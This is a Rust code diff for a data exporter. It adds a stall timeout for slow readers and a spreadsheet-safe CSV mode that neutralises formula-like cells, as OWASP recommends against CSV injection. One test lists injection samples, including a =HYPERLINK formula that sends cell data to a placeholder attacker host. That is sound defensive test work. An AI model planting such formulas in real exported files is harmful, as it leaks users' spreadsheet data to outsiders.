@@ -13,16 +13,31 @@ use super::schema::{Field, FieldType};
 use super::source::{ExportError, RowSink};
 
 /// An encoder whose output goes, a chunk at a time, into a channel (an HTTP body, say).
-/// A closed channel means the reader went away, and stops the export.
+/// A closed channel means the reader went away, and stops the export; so does a channel
+/// that takes nothing for [`ChunkSink::stall_after`] (a client that stopped reading).
 pub struct ChunkSink {
     encoder: Box<dyn Encoder>,
     sender: tokio::sync::mpsc::Sender<Vec<u8>>,
+    stall: Option<std::time::Duration>,
+    first_page: Option<tokio::sync::oneshot::Sender<()>>,
 }
 
 impl ChunkSink {
     /// Encodes with `encoder` into `sender`.
     pub fn new(encoder: Box<dyn Encoder>, sender: tokio::sync::mpsc::Sender<Vec<u8>>) -> Self {
-        Self { encoder, sender }
+        Self { encoder, sender, stall: None, first_page: None }
+    }
+
+    /// Gives up with [`ExportError::Stalled`] when a chunk waits longer than `limit` to be taken.
+    pub fn stall_after(mut self, limit: std::time::Duration) -> Self {
+        self.stall = Some(limit);
+        self
+    }
+
+    /// Says on `ready` when the source has read its first page (see [`RowSink::page_read`]).
+    pub fn on_first_page(mut self, ready: tokio::sync::oneshot::Sender<()>) -> Self {
+        self.first_page = Some(ready);
+        self
     }
 
     async fn send(&mut self) -> Result<(), ExportError> {
@@ -30,7 +45,14 @@ impl ChunkSink {
         if bytes.is_empty() {
             return Ok(());
         }
-        self.sender.send(bytes).await.map_err(|_| ExportError::Disconnected)
+        let sent = self.sender.send(bytes);
+        match self.stall {
+            Some(limit) => match tokio::time::timeout(limit, sent).await {
+                Ok(result) => result.map_err(|_| ExportError::Disconnected),
+                Err(_) => Err(ExportError::Stalled(limit)),
+            },
+            None => sent.await.map_err(|_| ExportError::Disconnected),
+        }
     }
 
     /// Ends the output and sends what remains.
@@ -47,6 +69,12 @@ impl RowSink for ChunkSink {
             self.send().await?;
         }
         Ok(())
+    }
+
+    fn page_read(&mut self) {
+        if let Some(ready) = self.first_page.take() {
+            let _ = ready.send(());
+        }
     }
 }
 
@@ -89,6 +117,24 @@ struct Csv {
     writer: csv::Writer<Shared>,
     out: Shared,
     buffer: Vec<String>,
+    /// The "CSV for Excel" variant: text that a spreadsheet would run as a formula is defused.
+    for_spreadsheets: bool,
+}
+
+/// Whether a spreadsheet would read `text` as a formula (or, after a tab or carriage
+/// return, as the start of one): OWASP's list for CSV injection.
+fn starts_like_formula(text: &str) -> bool {
+    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// A text cell as the spreadsheet variant writes it: a leading apostrophe, as OWASP
+/// recommends, makes a spreadsheet show the text instead of evaluating it. Only text
+/// cells: numbers, dates and decimals are never formulas, and stay as they are.
+fn for_spreadsheet(cell: &Cell) -> String {
+    match cell {
+        Cell::Text(text) if starts_like_formula(text) => format!("'{text}"),
+        other => other.to_text(),
+    }
 }
 
 impl Csv {
@@ -99,14 +145,19 @@ impl Csv {
         }
         let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(out.clone());
         writer.write_record(fields.iter().map(|f| f.name)).map_err(encode_error)?;
-        Ok(Self { writer, out, buffer: Vec::new() })
+        Ok(Self { writer, out, buffer: Vec::new(), for_spreadsheets: bom })
     }
 }
 
 impl Encoder for Csv {
     fn row(&mut self, row: &[Cell]) -> Result<(), ExportError> {
         self.buffer.clear();
-        self.buffer.extend(row.iter().map(Cell::to_text));
+        if self.for_spreadsheets {
+            self.buffer.extend(row.iter().map(for_spreadsheet));
+        } else {
+            // The plain CSV is byte-exact: what was filed, unaltered.
+            self.buffer.extend(row.iter().map(Cell::to_text));
+        }
         self.writer.write_record(&self.buffer).map_err(encode_error)
     }
 
@@ -387,6 +438,21 @@ mod tests {
         out
     }
 
+    /// A reader that takes nothing stops the export after the stall limit instead of
+    /// keeping it (and its export slot) for ever.
+    #[tokio::test]
+    async fn a_chunk_nobody_takes_stops_the_export_after_the_stall_limit() {
+        let (sender, _receiver) = tokio::sync::mpsc::channel(1);
+        let encoder = encoder(Format::Ndjson, price_fields(), false).expect("encoder");
+        let mut sink = ChunkSink::new(encoder, sender).stall_after(std::time::Duration::from_millis(100));
+        let error = loop {
+            if let Err(error) = sink.push(price_row("2.50")).await {
+                break error;
+            }
+        };
+        assert!(matches!(error, ExportError::Stalled(_)), "{error}");
+    }
+
     #[test]
     fn csv_has_a_header_quotes_when_needed_and_keeps_money_as_filed() {
         let mut odd = price_row("2.50");
@@ -395,6 +461,36 @@ mod tests {
         assert!(text.starts_with("\u{feff}effective_date,resource,region,pricing_model,price_per_accelerator_hour,currency,cost_basis_per_accelerator_hour\r\n"));
         assert!(text.contains("2026-01-01,h100,eu-de,on_demand,2.50,EUR,\r\n"), "{text}");
         assert!(text.contains("\"a \"\"quoted\"\", odd\nresource\""), "{text}");
+    }
+
+    /// Issue 15: a counterparty `=HYPERLINK(...)` went verbatim into the file for Excel.
+    #[test]
+    fn the_spreadsheet_variant_defuses_formulas_and_the_plain_csv_stays_exact() {
+        let formulas = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"];
+        let rows: Vec<Vec<Cell>> = formulas
+            .iter()
+            .map(|text| {
+                let mut row = price_row("2.50");
+                row[1] = Cell::Text((*text).into());
+                row
+            })
+            .collect();
+        let read = |bytes: Vec<u8>| -> Vec<String> {
+            let text = String::from_utf8(bytes).expect("utf-8");
+            let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+            reader.records().map(|r| r.expect("record")[1].to_owned()).collect()
+        };
+        let excel = read(encode(Format::Csv, &rows, true));
+        let plain = read(encode(Format::Csv, &rows, false));
+        for ((text, defused), exact) in formulas.iter().zip(&excel).zip(&plain) {
+            assert_eq!(defused, &format!("'{text}"));
+            assert_eq!(exact, text, "the plain CSV is byte-exact");
+        }
+        // Numbers and decimals are never altered, even in the spreadsheet variant.
+        let mut negative = price_row("2.50");
+        negative[4] = Cell::Int(-5);
+        let text = String::from_utf8(encode(Format::Csv, &[negative], true)).expect("utf-8");
+        assert!(text.contains(",-5,"), "{text}");
     }
 
     #[test]
